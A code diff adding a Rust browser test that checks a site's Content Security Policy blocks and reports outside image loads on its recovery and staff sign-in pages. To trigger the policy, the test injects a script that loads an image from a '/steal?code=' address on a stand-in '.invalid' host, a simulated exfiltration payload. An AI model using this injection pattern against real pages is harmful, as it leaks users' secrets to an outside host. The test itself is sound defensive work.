@@ -6,6 +6,8 @@ use super::person;
 use crate::support::browser::Browser;
 use crate::support::claimant::{Recovery, picture};
 use crate::support::installation::Setup;
+use crate::support::logs;
+use crate::support::wait::until;
 use crate::support::webdriver::Driver;
 
 /// What has run scripts elsewhere, in an attribute, in text, as a template, as an address.
@@ -59,5 +61,31 @@ fn se_07_what_claimants_write_is_inert_for_staff() {
             );
         }
         rina.assert_quiet_console().await;
+    });
+}
+
+/// SE-05: what the policy stops on a page of either face is reported by the browser, and stands in the log by its host's
+/// name, without what an address carried. Who invents reports is not believed in anything else.
+#[test]
+fn se_05_browsers_report_what_the_policy_stopped() {
+    Setup::default().run(async |app| {
+        let driver = Driver::start();
+        let ada = Browser::open(&driver).await;
+        for (page, host) in [
+            (app.recover("/passkey-reset"), "claimants.se05.invalid"),
+            (app.staff("/sign-in"), "staff.se05.invalid"),
+        ] {
+            ada.go(&page).await;
+            let body = "const picture = document.createElement('img'); picture.src = arguments[0]; document.body.append(picture);";
+            let address = format!("https://{host}/steal?code=se05secret");
+            ada.session.run(body, serde_json::json!([address])).await;
+            until("a report in the log", async || {
+                let logs = String::from_utf8(logs::all()).ok()?;
+                assert!(!logs.contains("se05secret"), "only the host's name is kept");
+                let line = logs.lines().find(|line| line.contains(host))?.to_owned();
+                line.contains("directive=\"img-src\"").then_some(())
+            })
+            .await;
+        }
     });
 }
